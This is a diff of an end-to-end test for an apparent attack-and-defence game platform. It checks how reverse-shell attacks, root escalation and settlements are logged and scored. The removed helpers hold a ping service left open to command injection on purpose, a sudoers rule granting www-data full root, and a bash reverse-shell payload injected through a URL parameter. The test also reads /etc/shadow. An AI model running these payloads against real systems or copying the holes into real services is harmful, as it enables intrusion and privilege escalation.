@@ -1,42 +1,16 @@
 import { execFile } from 'node:child_process';
 import { randomBytes } from 'node:crypto';
-import { mkdtemp, rm, writeFile } from 'node:fs/promises';
+import { mkdtemp, rm } from 'node:fs/promises';
 import os from 'node:os';
 import path from 'node:path';
 import { setTimeout as sleep } from 'node:timers/promises';
 import { promisify } from 'node:util';
 import { expect } from 'chai';
-import { createVerifiedAccount } from '../support/accounts.ts';
-import { ClientNamespace, ShellListener, boxHostProblem } from '../support/netns.ts';
+import { Arena, until, type ArenaPlayer, type AttackRef } from '../support/arena.ts';
+import { ClientNamespace, boxHostProblem } from '../support/netns.ts';
 import { freePort, repoRoot, startPlatform, type RunningPlatform } from '../support/platform.ts';
 
 const run = promisify(execFile);
-
-interface Player {
-  handle: string;
-  id: string;
-  token: string;
-  computer: ClientNamespace;
-  box: { id: string; ip: string; password: string };
-  vpnAddress: string;
-}
-
-interface AttackEvent {
-  type: string;
-  details: { message: string; user?: string; uid?: number; cwd?: string; peer?: string };
-}
-
-interface CommandLog {
-  timestamp: string;
-  user: string;
-  cwd: string;
-  command: string;
-}
-
-interface Attack {
-  id: string;
-  outcome: string;
-}
 
 /**
  * Attacks for real, without flags, on the local runtime as `make run` starts it: four players
@@ -59,11 +33,11 @@ describe('attacks on real boxes: reverse shells, root, kill chains, settlement',
   const computers = ['alice', 'bob', 'carol', 'dave'].map(
     (name, i) => new ClientNamespace(`${prefix}-${name}`, `${prefix}-c${i}`, `172.30.${octet}`, 4 * (i + 1)),
   );
-  const listeners: ShellListener[] = [];
-  let alice: Player;
-  let bob: Player;
-  let carol: Player;
-  let dave: Player;
+  let arena: Arena;
+  let alice: ArenaPlayer;
+  let bob: ArenaPlayer;
+  let carol: ArenaPlayer;
+  let dave: ArenaPlayer;
 
   before(async function () {
     this.timeout(300_000);
@@ -96,15 +70,20 @@ describe('attacks on real boxes: reverse shells, root, kill chains, settlement',
     };
     dataDir = await mkdtemp(path.join(os.tmpdir(), 'eg-e2e-attacks-'));
     platform = await startPlatform({ env, dataDir, timeoutMs: 120_000 });
+    arena = new Arena(platform, dataDir);
     for (const computer of computers) await computer.create();
-    [alice, bob, carol, dave] = await Promise.all(
-      ['alice', 'bob', 'carol', 'dave'].map((name, i) => player(`${name}_${tag}`, computers[i]!)),
-    );
+    const join = (name: string, i: number) => arena.join(`${name}_${tag}`, computers[i]!);
+    [alice, bob, carol, dave] = await Promise.all([
+      join('alice', 0),
+      join('bob', 1),
+      join('carol', 2),
+      join('dave', 3),
+    ]);
   });
 
   after(async function () {
     this.timeout(120_000);
-    for (const listener of listeners) listener.close();
+    arena?.closeShells();
     for (const computer of computers) await computer.destroy().catch(() => undefined);
     await platform?.stop();
     // Boxes outlive the API by design: take this test's runtime down as `make boxes-down --purge` does.
@@ -115,138 +94,18 @@ describe('attacks on real boxes: reverse shells, root, kill chains, settlement',
     if (dataDir) await rm(dataDir, { recursive: true, force: true });
   });
 
-  async function call<T>(
-    token: string,
-    method: string,
-    url: string,
-    body?: unknown,
-  ): Promise<{ status: number; body: T }> {
-    const res = await fetch(`${platform.url}/api/v1${url}`, {
-      method,
-      headers: {
-        authorization: `Bearer ${token}`,
-        ...(body === undefined ? {} : { 'content-type': 'application/json' }),
-      },
-      body: body === undefined ? undefined : JSON.stringify(body),
-    });
-    const text = await res.text();
-    return { status: res.status, body: (text ? JSON.parse(text) : null) as T };
-  }
-
-  async function until<T>(
-    what: string,
-    fn: () => Promise<T | null | undefined | false>,
-    timeoutMs = 20_000,
-  ): Promise<T> {
-    const deadline = Date.now() + timeoutMs;
-    for (;;) {
-      const value = await fn().catch(() => null);
-      if (value) return value;
-      if (Date.now() > deadline) throw new Error(`timed out after ${timeoutMs} ms waiting for ${what}`);
-      await sleep(200);
-    }
-  }
-
-  /** A verified player with a running box and a connected VPN client on their computer. */
-  async function player(handle: string, computer: ClientNamespace): Promise<Player> {
-    const account = await createVerifiedAccount(platform, {
-      handle,
-      email: `${handle}@example.test`,
-      password: 'correct horse battery',
-    });
-    const token = account.accessToken;
-    const created = await call<{ hostname: string }>(token, 'POST', '/boxes', {});
-    expect(created.status).to.equal(201);
-    await call(token, 'POST', `/boxes/${created.body.hostname}/power`, { on: true });
-    const box = await until(
-      `${handle}'s box RUNNING`,
-      async () => {
-        const my = (
-          await call<{ id: string; ip: string; ssh_password: string; status: string }>(
-            token,
-            'GET',
-            '/boxes/my',
-          )
-        ).body;
-        return my.status === 'RUNNING' ? my : null;
-      },
-      150_000,
-    );
-    const config = (await call<{ ovpn_config: string }>(token, 'GET', `/user-vpn/${account.id}/UDP`)).body;
-    const file = path.join(dataDir!, `${handle}.ovpn`);
-    await writeFile(file, config.ovpn_config, { mode: 0o600 });
-    await computer.connectVpn(file);
-    return {
-      handle,
-      id: account.id,
-      token,
-      computer,
-      box: { id: box.id, ip: box.ip, password: box.ssh_password },
-      vpnAddress: await computer.tunAddress(),
-    };
-  }
-
-  /**
-   * The defender's mistake: a "ping" page that pastes its parameter into a shell, run by
-   * systemd as www-data on port 8080 (and, with `sudo`, a rule that lets www-data do anything).
-   */
-  async function plantVulnerableService(defender: Player, options: { sudo?: boolean } = {}): Promise<void> {
-    const service = `require('http').createServer((req, res) => {
-      const host = new URL(req.url, 'http://box').searchParams.get('host') || '';
-      require('child_process').spawn('sh', ['-c', 'ping -c 1 ' + host], { detached: true, stdio: 'ignore' }).unref();
-      res.end('pinged\\n');
-    }).listen(8080);`;
-    await defender.computer.ssh(
-      defender.box.ip,
-      [
-        'systemd-run --quiet --unit=pingsvc --uid=www-data -p WorkingDirectory=/tmp /usr/bin/node -e "$1"',
-        options.sudo
-          ? 'echo "www-data ALL=(ALL) NOPASSWD: ALL" > /etc/sudoers.d/ops && chmod 440 /etc/sudoers.d/ops'
-          : 'true',
-        'for i in $(seq 50); do (exec 3<>/dev/tcp/127.0.0.1/8080) 2>/dev/null && exit 0; sleep 0.1; done; exit 1',
-      ].join('\n'),
-      { password: defender.box.password },
-      [service],
-    );
-  }
-
-  /** The attacker's exploit: a reverse shell from the target box to their own computer. */
-  async function reverseShell(attacker: Player, target: Player, port: number): Promise<ShellListener> {
-    const listener = await attacker.computer.listenForShell(port);
-    listeners.push(listener);
-    const payload = `;bash -c 'bash -i >& /dev/tcp/${attacker.vpnAddress}/${port} 0>&1'`;
-    await attacker.computer.httpGet(`http://${target.box.ip}:8080/?host=${encodeURIComponent(payload)}`);
-    await listener.connected;
-    return listener;
-  }
-
-  const startAttack = async (attacker: Player, target: Player) => {
-    const started = await call<{ attack: Attack }>(attacker.token, 'POST', `/attack/${target.box.id}`);
-    expect(started.status, JSON.stringify(started.body)).to.equal(201);
-    return started.body.attack;
-  };
-  const attackEvents = async (who: Player, attack: Attack) =>
-    (await call<AttackEvent[]>(who.token, 'GET', `/attack/${attack.id}/attack-logs`)).body;
-  const commandLogs = async (who: Player, attack: Attack) =>
-    (await call<CommandLog[]>(who.token, 'GET', `/attack/${attack.id}/logs`)).body;
-  const attackNow = async (who: Player, attack: Attack) =>
-    (await call<Attack[]>(who.token, 'GET', '/attack/history/all?limit=20')).body.find(
-      (a) => a.id === attack.id,
-    )!;
-  const mmr = async (who: Player) => (await call<{ mmr: number }>(who.token, 'GET', '/users/me')).body.mmr;
-
   it('a user reverse shell is a FOOTHOLD, root through sudo is OWNED; the kill chain is logged; the owner’s own shell is no event', async () => {
-    await plantVulnerableService(bob, { sudo: true });
+    await arena.plantVulnerableService(bob, { sudo: true });
     // No attack, no way in.
     expect(await alice.computer.canConnect(bob.box.ip, 8080)).to.equal(false);
-    const [aliceBefore, bobBefore] = [await mmr(alice), await mmr(bob)];
+    const [aliceBefore, bobBefore] = [await arena.mmr(alice), await arena.mmr(bob)];
 
-    const attack = await startAttack(alice, bob);
-    const shell = await reverseShell(alice, bob, 4444);
+    const attack = await arena.startAttack(alice, bob);
+    const shell = await arena.reverseShell(alice, bob, 4444);
     await until('the FOOTHOLD', async () =>
-      (await attackEvents(alice, attack)).some((e) => e.type === 'FOOTHOLD'),
+      (await arena.events(alice, attack)).some((e) => e.type === 'FOOTHOLD'),
     );
-    expect((await attackNow(alice, attack)).outcome).to.equal('PENDING');
+    expect((await arena.attack(alice, attack)).outcome).to.equal('PENDING');
 
     // The defender looks around in their own box meanwhile: never an attack event.
     await bob.computer.ssh(bob.box.ip, 'cd /root && ls >/dev/null && whoami >/dev/null', {
@@ -258,7 +117,7 @@ describe('attacks on real boxes: reverse shells, root, kill chains, settlement',
       .and.include('/tmp');
     await shell.run('id; uname -a; cat /etc/shadow 2>/dev/null');
     const chain = await until('the commands in the kill chain', async () => {
-      const logs = await commandLogs(alice, attack);
+      const logs = await arena.commands(alice, attack);
       return ['id', 'uname -a', 'cat /etc/shadow'].every((c) => logs.some((l) => l.command === c))
         ? logs
         : null;
@@ -269,22 +128,22 @@ describe('attacks on real boxes: reverse shells, root, kill chains, settlement',
 
     // Root.
     await shell.run('sudo -n id');
-    await until('the attack OWNED', async () => (await attackNow(bob, attack)).outcome === 'OWNED');
-    const events = await attackEvents(bob, attack);
+    await until('the attack OWNED', async () => (await arena.attack(bob, attack)).outcome === 'OWNED');
+    const events = await arena.events(bob, attack);
     expect(events.filter((e) => e.type === 'FOOTHOLD')).to.have.length(1);
     expect(events.filter((e) => e.type === 'OWN')).to.have.length(1);
     const commands = events.filter((e) => e.type === 'COMMAND');
     expect(commands.every((e) => e.details.peer === alice.vpnAddress)).to.equal(true);
     // MMR moved once: the winner gained what the loser lost.
-    const change = (await mmr(alice)) - aliceBefore;
+    const change = (await arena.mmr(alice)) - aliceBefore;
     expect(change).to.be.greaterThan(0);
-    expect(await mmr(bob)).to.equal(bobBefore - change);
+    expect(await arena.mmr(bob)).to.equal(bobBefore - change);
     // Settled once: MMR stays where it is.
     await sleep(1500);
-    expect(await mmr(alice)).to.equal(aliceBefore + change);
+    expect(await arena.mmr(alice)).to.equal(aliceBefore + change);
     // The two players only.
-    expect((await call(carol.token, 'GET', `/attack/${attack.id}/logs`)).status).to.equal(404);
-    expect((await call(carol.token, 'GET', `/attack/${attack.id}/attack-logs`)).status).to.equal(404);
+    expect((await arena.call(carol.token, 'GET', `/attack/${attack.id}/logs`)).status).to.equal(404);
+    expect((await arena.call(carol.token, 'GET', `/attack/${attack.id}/attack-logs`)).status).to.equal(404);
     // The attack is over: the window is shut, the open shell included.
     await until('the window closed', async () => !(await alice.computer.canConnect(bob.box.ip, 8080)));
     const cut = await shell.run('id', 3000).then(
@@ -296,11 +155,11 @@ describe('attacks on real boxes: reverse shells, root, kill chains, settlement',
   });
 
   it('loses no event while the API is down, and settles a held shell as FOOTHOLD at the time limit', async () => {
-    await plantVulnerableService(dave);
-    const attack = await startAttack(carol, dave);
-    const shell = await reverseShell(carol, dave, 4445);
+    await arena.plantVulnerableService(dave);
+    const attack = await arena.startAttack(carol, dave);
+    const shell = await arena.reverseShell(carol, dave, 4445);
     await until('the FOOTHOLD', async () =>
-      (await attackEvents(carol, attack)).some((e) => e.type === 'FOOTHOLD'),
+      (await arena.events(carol, attack)).some((e) => e.type === 'FOOTHOLD'),
     );
 
     // Commands that run on the box while the API (and with it the VPN relay) is down.
@@ -309,10 +168,11 @@ describe('attacks on real boxes: reverse shells, root, kill chains, settlement',
     await platform.stop();
     await sleep(5000);
     platform = await startPlatform({ env, dataDir, timeoutMs: 120_000 });
+    arena.platform = platform;
     const logs = await until(
       'the commands run while the API was down',
       async () => {
-        const all = await commandLogs(carol, attack);
+        const all = await arena.commands(carol, attack);
         return ['whoami', 'hostname'].every((c) => all.some((l) => l.command === c)) ? all : null;
       },
       30_000,
@@ -325,7 +185,7 @@ describe('attacks on real boxes: reverse shells, root, kill chains, settlement',
     const settled = await until(
       'the time limit',
       async () => {
-        const now = await attackNow(carol, attack);
+        const now = await arena.attack(carol, attack);
         return now.outcome !== 'PENDING' ? now : null;
       },
       (LIMIT_SECONDS + 20) * 1000,
@@ -335,49 +195,44 @@ describe('attacks on real boxes: reverse shells, root, kill chains, settlement',
   });
 
   it('settles DEFENDED when the defender kills the shell, TIMEOUT when the attacker never got in', async () => {
-    await plantVulnerableService(alice);
-    const evicted = await startAttack(bob, alice);
-    const idle = await startAttack(dave, carol);
-    const shell = await reverseShell(bob, alice, 4446);
+    await arena.plantVulnerableService(alice);
+    const evicted = await arena.startAttack(bob, alice);
+    const idle = await arena.startAttack(dave, carol);
+    const shell = await arena.reverseShell(bob, alice, 4446);
     await until('the FOOTHOLD', async () =>
-      (await attackEvents(bob, evicted)).some((e) => e.type === 'FOOTHOLD'),
+      (await arena.events(bob, evicted)).some((e) => e.type === 'FOOTHOLD'),
     );
     // The defender finds it and kills everything www-data runs.
     await alice.computer.ssh(alice.box.ip, 'pkill -KILL -u www-data; true', { password: alice.box.password });
     await shell.closed;
     await until(
       'the eviction',
-      async () => (await attackEvents(alice, evicted)).some((e) => e.type === 'EVICTED'),
+      async () => (await arena.events(alice, evicted)).some((e) => e.type === 'EVICTED'),
       20_000,
     );
     const before = {
-      alice: await mmr(alice),
-      bob: await mmr(bob),
-      carol: await mmr(carol),
-      dave: await mmr(dave),
+      alice: await arena.mmr(alice),
+      bob: await arena.mmr(bob),
+      carol: await arena.mmr(carol),
+      dave: await arena.mmr(dave),
     };
-    const [defended, timedOut] = await Promise.all(
-      [
-        [bob, evicted],
-        [dave, idle],
-      ].map(([who, attack]) =>
-        until(
-          'the time limit',
-          async () => {
-            const now = await attackNow(who as Player, attack as Attack);
-            return now.outcome !== 'PENDING' ? now : null;
-          },
-          (LIMIT_SECONDS + 20) * 1000,
-        ),
-      ),
-    );
+    const settled = (who: ArenaPlayer, attack: AttackRef) =>
+      until(
+        'the time limit',
+        async () => {
+          const now = await arena.attack(who, attack);
+          return now.outcome !== 'PENDING' ? now : null;
+        },
+        (LIMIT_SECONDS + 20) * 1000,
+      );
+    const [defended, timedOut] = await Promise.all([settled(bob, evicted), settled(dave, idle)]);
     expect(defended.outcome).to.equal('DEFENDED');
     expect(timedOut.outcome).to.equal('TIMEOUT');
     // The defenders won.
-    expect(await mmr(alice)).to.be.greaterThan(before.alice);
-    expect(await mmr(bob)).to.be.lessThan(before.bob);
-    expect(await mmr(carol)).to.be.greaterThan(before.carol);
-    expect(await mmr(dave)).to.be.lessThan(before.dave);
-    expect(await attackEvents(carol, idle)).to.deep.equal([]);
+    expect(await arena.mmr(alice)).to.be.greaterThan(before.alice);
+    expect(await arena.mmr(bob)).to.be.lessThan(before.bob);
+    expect(await arena.mmr(carol)).to.be.greaterThan(before.carol);
+    expect(await arena.mmr(dave)).to.be.lessThan(before.dave);
+    expect(await arena.events(carol, idle)).to.deep.equal([]);
   });
 });
